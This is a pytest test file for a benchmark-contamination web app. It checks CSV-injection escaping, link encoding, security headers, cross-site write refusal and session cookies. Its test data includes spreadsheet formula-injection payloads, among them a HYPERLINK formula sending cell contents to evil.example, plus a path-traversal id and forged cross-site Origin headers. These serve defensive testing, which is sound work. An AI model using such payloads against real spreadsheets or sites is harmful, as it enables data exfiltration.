"""What leaves the server is safe to open: CSV exports a spreadsheet will not run, item links
that go where they say, security headers on every response, no cross-site writes, a login
cookie that is not the key."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest
from conftest import IndexCorpus
from fastapi.testclient import TestClient
from helpers import wait_for_report

from contam.app.api.main import create_app
from contam.app.settings import Settings

Q = "Which river flows through the ancient city of Baghdad and joins the Euphrates near Basra?"
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-2+3", "@SUM(1)", "\tx", "a?b#c%d/../e", "\r\n=2+2"]


@pytest.fixture
def client(migrated_url: str, index_corpus: IndexCorpus) -> Iterator[TestClient]:
    index_corpus(migrated_url, [{"id": "quiz", "text": f"Quiz night! {Q} A. Nile B. Tigris"}])
    with TestClient(create_app(Settings(database_url=migrated_url))) as c:
        yield c


def _report(c: TestClient) -> str:
    rows = "".join(json.dumps({"id": i, "question": Q, "answer": "Tigris"}) + "\n" for i in HOSTILE_IDS)
    rid: str = c.post("/api/v1/benchmarks", files={"file": ("b.jsonl", rows.encode())}).json()["id"]
    assert wait_for_report(c, rid)["status"] == "done"
    return rid


def test_csv_export_cannot_run_formulas_and_item_links_are_encoded(client: TestClient) -> None:
    rid = _report(client)
    text = client.get(f"/api/v1/reports/{rid}/export", params={"format": "csv"}).text
    ids = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(ids) == sorted(("'" + i if i[0] in "=+-@\t\r" else i) for i in HOSTILE_IDS)
    assert all(not i.startswith(("=", "+", "-", "@", "\t", "\r")) for i in ids)
    page = client.get("/items", params={"report": rid, "status": ["contaminated", "suspicious", "clean"]}).text
    assert f'href="/reports/{rid}/items/a%3Fb%23c%25d%2F..%2Fe?idx=' in page
    assert client.get(f"/reports/{rid}/items/a%3Fb%23c%25d%2F..%2Fe").status_code == 200
    # an id with a line break: its link went to a 404 (Starlette's path parameter stops at one)
    assert f'href="/reports/{rid}/items/%0D%0A%3D2%2B2?idx=' in page
    assert client.get(f"/reports/{rid}/items/%0D%0A%3D2%2B2").status_code == 200
    assert client.get(f"/api/v1/reports/{rid}/items/%0D%0A%3D2%2B2").json()["item_id"] == "\r\n=2+2"


def test_every_response_carries_the_security_headers(client: TestClient) -> None:
    responses = [
        client.get("/"),
        client.get("/api/v1/reports"),
        client.get("/static/app.css"),
        client.get("/docs"),
        client.get("/reports/nope"),
        client.post("/api/v1/check", content=b"x" * (8 << 20), headers={"content-type": "application/json"}),
    ]
    for r in responses:
        csp = r.headers["content-security-policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "http" not in csp, r.url
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["x-frame-options"] == "DENY"
        assert r.headers["referrer-policy"] == "same-origin"
    assert "<script>" not in client.get("/docs").text  # Swagger UI starts from /docs/init.js
    assert "SwaggerUIBundle" in client.get("/docs/init.js").text
    assert client.get("/redoc").status_code == 404  # it would load from a CDN


def test_cross_site_writes_are_refused(client: TestClient) -> None:
    files = {"file": ("b.jsonl", (json.dumps({"id": "x", "question": Q}) + "\n").encode())}
    for headers in ({"origin": "https://evil.example"}, {"origin": "null"}, {"referer": "http://evil.example/x"}):
        r = client.post("/api/v1/benchmarks", files=files, headers=headers)
        assert r.status_code == 403 and "cross-site" in r.json()["error"], headers
        assert client.post("/upload", files=files, headers=headers, follow_redirects=False).status_code == 403
    assert client.get("/api/v1/reports").json()["total"] == 0
    same = client.post("/api/v1/benchmarks", files=files, headers={"origin": "http://testserver"})
    assert same.status_code == 202  # this server's own pages, and clients that send no Origin
    rid = same.json()["id"]
    assert client.delete(f"/api/v1/reports/{rid}", headers={"origin": "https://evil.example"}).status_code == 403
    assert client.get("/", headers={"origin": "https://evil.example"}).status_code == 200  # reads are not writes


def test_login_cookie_is_a_signed_token_not_the_key(migrated_url: str) -> None:
    settings = Settings(database_url=migrated_url, api_keys="s3cret-key")
    with TestClient(create_app(settings), base_url="https://testserver") as c:
        r = c.post("/login", data={"key": "s3cret-key", "next": "/"}, follow_redirects=False)
        assert r.status_code == 303
        cookie = r.headers["set-cookie"]
        assert "s3cret-key" not in cookie and "HttpOnly" in cookie and "Secure" in cookie
        assert "samesite=lax" in cookie.lower()
        assert c.get("/", follow_redirects=False).status_code == 200
        c.cookies.clear()
        c.cookies.set("contam_session", "s3cret-key")  # the key itself is no session
        assert c.get("/", follow_redirects=False).status_code == 303
    with TestClient(create_app(settings)) as plain:  # over plain HTTP the cookie cannot be Secure
        cookie = plain.post("/login", data={"key": "s3cret-key"}, follow_redirects=False).headers["set-cookie"]
        assert "Secure" not in cookie


def test_a_sign_in_lapses_and_can_be_ended(migrated_url: str) -> None:
    """There was no sign-out (/logout was a 404) and one token per key, the same at every sign-in
    and valid until the key was removed (a probe). A sign-in now lasts SESSION_SECONDS."""
    from contam.app.api.security import SESSION_SECONDS, Sessions

    settings = Settings(database_url=migrated_url, api_keys="s3cret-key")
    with TestClient(create_app(settings)) as c:
        nobody = c.get("/logout", follow_redirects=False)  # no sign-in to end: no button
        assert nobody.status_code == 303 and nobody.headers["location"] == "/"
        r = c.post("/login", data={"key": "s3cret-key", "next": "/"}, follow_redirects=False)
        assert f"Max-Age={SESSION_SECONDS}" in r.headers["set-cookie"]
        page = c.get("/", follow_redirects=False)
        assert page.status_code == 200 and '<form method="post" action="/logout"' in page.text
        # a GET (another site's link or image) signs no one out: it shows the button (a new user's trial)
        shown = c.get("/logout", follow_redirects=False)
        assert shown.status_code == 200 and 'id="sign-out"' in shown.text
        assert c.get("/", follow_redirects=False).status_code == 200  # still signed in
        out = c.post("/logout", follow_redirects=False)
        assert out.status_code == 303 and out.headers["location"] == "/login"
        assert c.get("/", follow_redirects=False).status_code == 303  # signed out: to the sign-in page
    sessions = Sessions("secret")
    token = sessions.token("k", issued=1_000_000)
    assert sessions.valid(token, ["k"], now=1_000_000 + SESSION_SECONDS - 1)
    assert not sessions.valid(token, ["k"], now=1_000_000 + SESSION_SECONDS)  # lapsed
    assert not sessions.valid(token, ["other"], now=1_000_001)  # another key's
    assert not sessions.valid(token.replace("1000000.", "9000000."), ["k"], now=9_000_001)  # its time rewritten
    assert sessions.token("k", issued=1) != sessions.token("k", issued=2)
